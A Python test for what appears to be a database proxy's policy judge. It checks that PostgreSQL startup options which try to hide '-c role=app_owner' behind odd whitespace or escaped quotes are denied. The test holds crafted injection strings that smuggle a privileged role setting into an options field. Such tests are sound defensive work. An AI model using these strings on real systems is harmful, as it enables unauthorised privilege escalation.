def test_startup_options_hidden_behind_odd_whitespace_are_judged(space: str) -> None:
    policies = example_policies()
    analytics = policies.get("analytics")
    assert analytics is not None
    if space == "\\'":
        options = "-c application_name=a\\' -c role=app_owner -c application_name=b\\'"
    else:
        options = space.join(["-c application_name=x", f"-c{space}role=app_owner"])
    decision = Judge(policies).judge_startup(analytics, {"options": options})
    assert decision.action == "deny" and decision.rule == "settings.role", decision
